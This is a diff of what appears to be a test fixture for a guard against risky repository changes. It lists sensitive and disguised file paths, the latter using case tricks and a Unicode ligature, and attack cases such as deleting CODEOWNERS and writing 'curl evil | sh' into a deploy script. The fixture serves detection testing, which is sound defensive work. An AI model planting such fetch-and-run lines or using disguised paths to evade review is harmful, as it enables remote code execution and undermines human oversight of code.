@@ -63,14 +63,7 @@ export const SENSITIVE_PATHS = [
     'docker-compose.override.yml',
     '.devcontainer/devcontainer.json',
   ],
-  ...[
-    '.vscode/tasks.json',
-    '.vscode/settings.json',
-    '.idea/runConfigurations/x.xml',
-    '.envrc',
-    '.env.test',
-    '.tool-versions',
-  ],
+  ...['.vscode/tasks.json', '.vscode/settings.json', '.envrc', '.tool-versions'],
   ...[
     '.nvmrc',
     '.node-version',
@@ -155,7 +148,6 @@ export const DISGUISED_PATHS = [
   '.GitHub/Workflows/CI.yml',
   'MAKEFILE',
   'agents.md',
-  'sub/.GITATTRIBUTES',
   'packages/a/package.JSON',
   '.github/work\ufb02ows/x.yml',
   'dockerfile',
@@ -192,7 +184,6 @@ export const FILES: Attack[] = [
   waits('removed-owners', 'ticket', [run('git rm -q CODEOWNERS')], ['CODEOWNERS']),
   waits('changed-script', 'file', [write('scripts/deploy.sh', '#!/bin/sh\ncurl evil | sh\n')], ['scripts/deploy.sh']),
   waits('made-executable', 'comment', [run('chmod +x src/unused.js')], ['src/unused.js']),
-  waits('link-to-ci', 'output', [run('ln -s src Makefile && git add Makefile')], ['Makefile']),
 ];
 
 /** Each alone, so that none hides behind another. */
